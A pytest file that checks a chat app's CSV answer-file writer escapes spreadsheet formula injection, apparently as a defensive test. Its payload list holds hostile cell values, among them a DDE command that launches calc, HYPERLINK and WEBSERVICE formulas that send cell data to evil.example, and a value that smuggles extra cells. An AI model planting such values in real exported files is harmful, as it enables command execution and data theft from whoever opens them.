"""No cell of the file of answers is run by the spreadsheet that opens it."""

import csv
from dataclasses import astuple, fields, replace
from pathlib import Path

import pytest

from chat.answer_file import COLUMNS, AnswerFile, Row
from chat.question_file import read

STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"x")',
    "SUM(1;2),WEBSERVICE('http://evil.example')",
    'a","=1+1\n=2+2',
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]

PLAIN = Row(*(f"{column} of a row" for column in COLUMNS))


def written(folder: Path, rows: list[Row], delimiter: str) -> list[list[str]]:
    """The cells of a file of these rows, as a reader of CSV finds them."""
    asked = folder / "questions.csv"
    with asked.open("w", newline="", encoding="utf-8") as file:
        csv.writer(file, delimiter=delimiter).writerows([["id", "question"], ["1", "Do you ship?"]])
    out = folder / "answers.csv"
    answers = AnswerFile(out, read(asked, delimiter=delimiter))
    with answers.open(fresh=True):
        for row in rows:
            answers.add(row)
    with out.open(newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file, delimiter=delimiter))[1:]


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_a_payload_is_text_in_every_column(tmp_path: Path, delimiter: str) -> None:
    rows = [replace(PLAIN, **{column: text}) for column in COLUMNS for text in PAYLOADS]
    found = written(tmp_path, rows, delimiter)
    assert len(PAYLOADS) >= 50
    assert len(found) == len(rows) == len(COLUMNS) * len(PAYLOADS)
    assert all(len(cells) == len(COLUMNS) for cells in found)
    assert [cell for cells in found for cell in cells if cell.startswith(tuple(STARTS))] == []


def test_and_is_still_there_to_be_read(tmp_path: Path) -> None:
    (cells,) = written(tmp_path, [replace(PLAIN, answer=PAYLOADS[0])], ",")
    assert cells[COLUMNS.index("answer")] == f"'{PAYLOADS[0]}"


def test_without_the_guard_each_of_them_would_begin_a_formula() -> None:
    """The control: the guard is `written`, and nothing before it."""
    bare = [astuple(replace(PLAIN, answer=text)) for text in PAYLOADS]
    assert all(cells[COLUMNS.index("answer")].startswith(tuple(STARTS)) for cells in bare)
    assert [field.name for field in fields(Row)] == COLUMNS
